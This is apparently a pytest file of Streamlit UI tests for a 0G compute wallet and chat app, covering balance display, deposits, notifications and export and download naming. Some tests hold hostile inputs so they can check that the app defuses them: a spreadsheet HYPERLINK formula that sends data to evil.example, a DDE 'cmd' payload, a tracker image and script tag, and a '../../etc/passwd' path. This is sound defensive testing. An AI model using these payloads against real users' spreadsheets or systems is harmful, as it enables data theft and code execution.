"""Rough edges a newcomer hit (issue 11, What §4), as fast AppTests against the in-memory client: the same
digits for the same balance everywhere, provider text that cannot become a spreadsheet formula or
markdown in a download, and download names that say what they hold."""

from __future__ import annotations

import re
from dataclasses import replace

import pytest
import streamlit as st
from streamlit.elements.widgets.button import ButtonMixin
from streamlit.testing.v1 import AppTest

from tests.support.app import check, confirm, open_fast, texts
from tests.support.fake_client import ONE_OG, FakeNetwork, SubAccount, session_user

ODD_WEI = 1_999_781_834_000_000_000  # 1.999781834 OG: 2, 4 and 6 decimals, rounded or cut, all differ


_open = open_fast
_user = session_user


def _sidebar_lines(at: AppTest) -> str:
    return " ".join(texts(at.sidebar.markdown))


def test_the_same_balance_shows_the_same_digits_in_the_sidebar_and_on_the_wallet_page(fake_net):
    at = _open("wallet")
    user = _user(fake_net)
    fake_net.wallets[user] = ODD_WEI
    fake_net.ledgers[user] = ODD_WEI
    fake_net.accounts[(user, fake_net.of_type("chatbot").provider)] = SubAccount(balance_wei=ODD_WEI)
    check(at.run())
    shown = "1.9997 OG"  # 4 decimals, cut (never rounded up to 2 OG)
    assert {m.label: m.value for m in at.sidebar.metric}["Wallet balance"] == shown
    assert "1.999781834 OG" in next(m for m in at.sidebar.metric if m.label == "Wallet balance").help
    cards = {m.label: m.value for m in at.main.metric}
    assert cards["Wallet"] == shown and cards["Ledger available"] == shown
    assert f"Ledger available: **{shown}**" in _sidebar_lines(at)
    assert f"Locked with providers: **{shown}**" in _sidebar_lines(at)
    table = next(d.value for d in at.dataframe if "usable" in d.value.columns)
    assert list(table["balance"]) == [shown] and list(table["usable"]) == ["0.9997 OG"]  # 1 OG is the reserve
    exact = next(m for m in at.main.metric if m.label == "Wallet").help
    assert "1.999781834 OG" in exact  # the exact figure, on demand


def test_a_provider_named_like_a_formula_is_not_a_formula_in_the_tables_csv(fake_net):
    names = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3"]
    fake_net.services[:4] = [replace(s, model=n) for s, n in zip(fake_net.services, names, strict=False)]
    at = _open()
    models = list(at.dataframe(key="disc_table").value["model"])
    risky = [m for m in models if m[:1] in "=+-@"]
    assert not risky, risky  # a cell the built-in CSV download would hand a spreadsheet as a formula
    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")" in models  # still readable as typed


def _fund(net: FakeNetwork, provider: str, balance_wei: int, *, ledger_wei: int = 10 * ONE_OG) -> None:
    user = _user(net)
    net.ledgers[user] = ledger_wei
    net.accounts[(user, provider)] = SubAccount(balance_wei=balance_wei)


def test_one_og_at_a_provider_is_usable_nowhere(fake_net):
    """1 OG is the provider's reserve: the Wallet table, Chat and Text-to-image all say 0 usable."""
    at = _open("wallet")
    chat, img = fake_net.of_type("chatbot"), fake_net.of_type("text-to-image")
    _fund(fake_net, chat.provider, ONE_OG)
    fake_net.accounts[(_user(fake_net), img.provider)] = SubAccount(balance_wei=ONE_OG)
    check(at.run())
    table = next(d.value for d in at.dataframe if "usable" in d.value.columns)
    assert set(table["usable"]) == {"0 OG"}, table
    at.switch_page("app_pages/chat.py")
    check(at.run())
    assert at.chat_input(key="chat_input").disabled
    assert any("nothing is left for requests" in t for t in texts(at.warning))
    assert at.text_input(key="chat_fund_amount").value == "1"  # 1 more leaves 1 OG usable
    at.switch_page("app_pages/text_to_image.py")
    check(at.run())
    assert at.button(key="img_run").disabled


def test_compare_offers_the_deposit_in_place_when_the_ledger_holds_too_little(fake_net):
    at = _open("compare")
    user = _user(fake_net)
    fake_net.ledgers[user] = ONE_OG  # two unfunded chatbots need 2 OG each
    check(at.run())
    words = " ".join(texts(at.warning) + texts(at.info))
    assert "not funded yet; it keeps" not in words
    assert "Deposit" in at.button(key="cmp_deposit_btn").label
    assert at.text_input(key="cmp_deposit_amount").value == "3"  # 2 × 2 OG − the 1 OG there
    at.button(key="cmp_deposit_btn").click()
    check(at.run())
    assert any("Deposit 3 OG into your ledger" in t for t in texts(at.markdown))  # the confirmation dialog


def _success_boxes(at: AppTest) -> list[str]:
    return [t for t in texts(at.success) if "Transaction hash" in t]


def test_a_transaction_on_the_wallet_page_notifies_once_with_its_box_and_no_toast(fake_net):
    at = _open("wallet")
    at.text_input(key="wallet_deposit_amount").set_value("5")
    at.button(key="wallet_deposit_btn").click()
    check(at.run())
    confirm(at)
    assert len(_success_boxes(at)) == 1 and not at.toast  # a toast would sit over the box's hash and Dismiss
    check(at.run())
    assert not at.toast


def test_a_transaction_from_chat_notifies_once_with_a_toast(fake_net):
    chat = fake_net.of_type("chatbot")
    at = _open("chat")
    fake_net.ledgers[_user(fake_net)] = 10 * ONE_OG
    check(at.run())
    at.button(key="chat_fund_btn").click()
    check(at.run())
    confirm(at)
    assert len(at.toast) == 1 and not _success_boxes(at)
    assert fake_net.accounts[(_user(fake_net), chat.provider)].balance_wei == 2 * ONE_OG


def test_view_code_is_a_full_width_panel_with_the_request_in_four_forms(fake_net):
    tee = fake_net.of_type("chatbot")
    at = _open("chat")
    _fund(fake_net, tee.provider, 3 * ONE_OG)
    check(at.run())
    at.chat_input(key="chat_input").set_value("Hi there")
    check(at.run())
    panel = next(e for e in at.expander if e.label == "View code")  # not a popover's 133 px box
    assert [t.label for t in panel.tabs] == ["Python · 0G SDK", "Python · OpenAI client", "cURL",
                                             "TypeScript · 0G SDK"]
    sdk, openai, curl, ts = (t.code[0] for t in panel.tabs)
    assert [c.language for c in (sdk, openai, curl, ts)] == ["python", "python", "bash", "typescript"]
    compile(sdk.value, "sdk.py", "exec")
    compile(openai.value, "openai.py", "exec")
    assert 'os.environ["OG_API_KEY"]' in openai.value and "Hi there" in openai.value
    assert "$OG_API_KEY" in curl.value and '"content": "Hi there"' in curl.value
    assert "createZGComputeNetworkBroker" in ts.value and tee.provider in ts.value


def test_a_chat_export_shows_the_providers_text_as_typed_never_as_markup():
    from markdown_it import MarkdownIt

    from og_ui.exports import chat_markdown

    hostile = "![tracker](http://evil.example/p.png)\n<script>alert(1)</script>\n```\n# Heading\n[click](http://x.example)"
    md = chat_markdown([{"role": "user", "content": "**my** prompt"}, {"role": "assistant", "content": hostile}])
    html = MarkdownIt("commonmark").render(md)
    assert "<img" not in html and "<script>" not in html and "<a " not in html and "<h1>" not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html and "**my** prompt" in html  # shown as typed


def test_downloads_say_what_they_hold():
    from og_ui.exports import download_name

    name = download_name("black-forest-labs/FLUX.1-schnell", "A lighthouse at dusk, watercolor!", 1_800_000_000, "png",
                         n=2)
    assert re.fullmatch(r"flux-1-schnell-a-lighthouse-at-dusk-watercolor-\d{8}-\d{6}-2\.png", name), name
    assert download_name("m", "../../etc/passwd\x00", 0, "png").startswith("m-etc-passwd-")  # no path in a name


@pytest.fixture
def download_names(monkeypatch) -> list[str]:
    """The file_name of every download button drawn (AppTest does not expose it)."""
    names: list[str] = []
    original = ButtonMixin.download_button

    def recording(self, label, data, file_name=None, *args, **kwargs):
        names.append(file_name)
        return original(self, label, data, file_name, *args, **kwargs)

    monkeypatch.setattr(ButtonMixin, "download_button", recording)
    monkeypatch.setattr(st, "download_button", lambda *a, **k: recording(st._main, *a, **k))
    return names


def test_text_to_image_downloads_are_named_after_the_model_and_prompt(fake_net, download_names):
    img = fake_net.of_type("text-to-image")
    at = _open("text_to_image")
    _fund(fake_net, img.provider, 3 * ONE_OG)
    check(at.run())
    at.text_area(key="img_prompt").set_value("A lighthouse at dusk")
    at.button(key="img_run").click()
    check(at.run())
    names = [n for n in download_names if n and n.endswith(".png")]
    assert names and all(re.fullmatch(r"image-a-lighthouse-at-dusk-\d{8}-\d{6}(-\d+)?\.png", n) for n in names), names


def test_speech_to_text_estimates_each_file_in_the_providers_own_unit(fake_net):
    """hello_world.wav lasts 5.3 s; the provider prices output tokens per 1M."""
    from pathlib import Path

    wav = Path(__file__).resolve().parents[1] / "data" / "hello_world.wav"
    stt = fake_net.of_type("speech-to-text")
    at = _open("speech_to_text")
    _fund(fake_net, stt.provider, 3 * ONE_OG)
    check(at.run())
    at.file_uploader(key="stt_upload").set_value(("hello.wav", wav.read_bytes(), "audio/wav"))
    check(at.run())
    said = " ".join(texts(at.caption))
    assert re.search(r"This file \(5\.3 s\): about \d+ output tokens ≈ [\d.,<\s]+ OG", said), said
    assert "per 1M output tokens" in said and "per minute of speech" in said  # the unit, and how it is estimated


def test_the_sidebar_says_what_is_usable_by_the_same_rule_as_the_wallet_table(fake_net):
    at = _open("wallet")
    user = _user(fake_net)
    _fund(fake_net, fake_net.of_type("chatbot").provider, ONE_OG)  # all of it the reserve
    fake_net.accounts[(user, fake_net.of_type("text-to-image").provider)] = SubAccount(balance_wei=ODD_WEI)
    check(at.run())
    assert "Usable for requests: **0.9997 OG**" in _sidebar_lines(at)  # 0 + (1.9997… − 1)
    table = next(d.value for d in at.dataframe if "usable" in d.value.columns)
    assert sorted(table["usable"]) == ["0 OG", "0.9997 OG"]
